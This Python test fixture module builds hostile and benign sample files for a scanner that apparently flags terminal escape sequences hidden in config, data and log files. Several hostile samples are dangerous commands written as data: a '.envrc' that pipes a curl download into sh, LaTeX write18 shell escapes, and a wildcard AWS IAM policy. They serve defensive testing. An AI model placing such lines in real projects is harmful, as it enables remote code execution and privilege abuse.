"""Files of attack stext (session 40): escapes judged by the name's format, and honest
YAML/TOML/JSON-lines/log output written by real tools (PyYAML, tomlkit, pandas, logging)."""

from __future__ import annotations

import gzip
import json

import yaml

ESC_YAML = b'title: "\\e[2J\\e[9Aowned"\n'  # PyYAML decodes \e to ESC
CHUNKS = (4096, 8192, 65536, 1 << 20)


def _gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def _split(chunk: int, before: bytes, after: bytes) -> bytes:
    """A one-line double-quoted YAML scalar whose `before` ends at byte chunk-1."""
    head = b'pad: "'
    fill = chunk - len(head) - len(before)
    return head + b"x" * fill + before + after + b'"\n'


def hostile() -> dict[str, bytes]:
    """Each decodes to ESC under a reader the name selects (unless noted)."""
    files = {
        "u16/cfg.yaml": "\ufeff".encode("utf-16-le") + ESC_YAML.decode().encode("utf-16-le"),
        "u16/rows.jsonl": "\ufeff".encode("utf-16-le")
        + '{"a": "\\f\\b\\b\\b"}\n'.encode("utf-16-le"),
        "u16/esc.txt": "\ufeff".encode("utf-16-be")
        + '{"a": "\\u001b[2J"}\n{"a": 2}\n'.encode("utf-16-be"),
        "case/cfg.YAML": ESC_YAML,
        "case/cfg.Yml": ESC_YAML,
        "case/cfg.TOML": b'title = "\\e[2J"\n',
        "case/rows.JSONL": b'{"a": "\\f"}\n',
        "gzs/cfg.yaml-gz": _gz(ESC_YAML),
        "gzs/cfg.yml.z": _gz(ESC_YAML),
        "gzs/cfg.toml_z": _gz(b'title = "\\e[2J"\n'),
        "gzs/cfg.YAML.GZ": _gz(ESC_YAML),
        "j5/cfg.json5": b'{title: "\\x1b[2J\\x1b[9Aowned"}\n',
        "yx/c1.yaml": b'title: "\\x9b2J\\N"\n',
        "yx/up.yaml": b'title: "\\x1B[2J"\n',
        "n5/CITATION.cff": ESC_YAML,
        "n5/rows.jsonlines": b'{"a": "\\f\\b\\b"}\n{"a": 2}\n',
        "n5/rows.ldjson": b'{"a": "\\f\\b\\b"}\n{"a": 2}\n',
        "dot/.env": b'PYTHONSTARTUP="/tmp/x.py"\nTITLE="\\a\\f"\n',
        "dot/.envrc": b"curl http://x | sh\n",
        "bk/index.Rmd": b"---\ntitle: book\n---\n# Intro\n",
        "bk/_main.brf": b"\\immediate\\write18{id}\n",
        "qm/main.md": b"---\ntitle: run\nformat: pdf\n---\n# Results\n",
        "qm/main.brf": b"\\immediate\\write18{id}\n",
        "jl/main.jl": b"# %% [markdown]\n# # Fit\n# %%\nx = 1\n",
        "jl/main.brf": b"\\immediate\\write18{id}\n",
        "sls/serverless.yml": b"service: s\nprovider: {name: aws, iam: {role: "
        b"{statements: [{Effect: Allow, Action: '*', Resource: '*'}]}}}\n",
        "jk/_config.yml": b"destination: /home\nplugins_dir: /tmp/p\nsafe: false\n",
        "left/e.log": ESC_YAML,
    }
    for chunk in CHUNKS:  # odd run `\\\e` with a boundary after its first backslash
        files[f"split/odd{chunk}.yaml"] = _split(chunk, b"\\", b"\\\\e[2J")
        files[f"split/cut{chunk}.yaml"] = _split(chunk, b"\\", b"e[2J")
        files[f"jsplit/odd{chunk}.txt"] = _split(chunk, b"\\", b"\\\\u001b[2J")
    return files


def _log(lines: list[str]) -> bytes:
    return "".join(f"2026-12-06 05:30:00,000 INFO run: {line}\n" for line in lines).encode()


def honest() -> dict[str, bytes]:
    """Ordinary output of real writers; name -> bytes."""
    import pandas as pd
    import tomlkit

    labels = {"xlabel": r"$\beta_s$", "ylabel": r"$\frac{1}{2}\epsilon$",
              "re": r"\bword\b", "path": r"C:\Users\bob\fig.png"}  # fmt: skip
    plain = {"re": r"\d+\.\d+", "lab": r"$\theta \nu \rho \Delta \xi \upsilon \Upsilon$"}
    frame = pd.DataFrame({"label": [r"$\beta$", r"$\alpha_s$"], "v": [1, 2]})
    return {
        "tk/plot.toml": tomlkit.dumps(labels).encode(),
        "yq/plot.yaml": yaml.safe_dump(labels, default_style='"').encode(),
        "yp/plain.yaml": yaml.safe_dump(plain).encode(),
        "ya/alpha.yaml": yaml.safe_dump({"ylabel": r"$\alpha_s$"}).encode(),
        "yw/win.yaml": yaml.safe_dump({"path": r"C:\Users\bob\fig.png"}).encode(),
        "pd/rows.jsonl": frame.to_json(orient="records", lines=True).encode(),
        "nd/rows.ndjson": "".join(json.dumps(labels) + "\n" for _ in range(3)).encode(),
        "lg/run.log": _log([r"pattern \x1b\[[0-9;]*m stripped", r"label $\beta$ \f(x)"]),
        "pg/db.log": _log([r"ERROR: unsupported Unicode escape sequence",
                           r"DETAIL: \u0000 cannot be converted to text."]),
        "yu/names.yaml": yaml.safe_dump({"name": "M\u00fcller caf\u00e9 \u03bc \u5408 \u2013"
                                         " x\u00a0y", "sep": "\u2028"}).encode(),
        "yf/long.yaml": yaml.safe_dump({"t": " ".join([r"\epsilon \beta \frac{a}{b}"] * 20)},
                                       default_style='"', width=40).encode(),
        "js/run.log": "".join(json.dumps({"level": "error", "msg": f"\x1b[31mstep {i}\x1b[0m"})
                              + "\n" for i in range(3)).encode(),
        "win/run.log": _log([r"saved C:\Users\u0012345\Documents\fit.png"]),
        "dq/even65536.yaml": _split(65536, b"\\", b"\\epsilon"),
        "dq/even4096.yaml": _split(4096, b"\\", b"\\epsilon"),
        "dq/jeven65536.txt": _split(65536, b"\\", b"\\u001b"),
    }
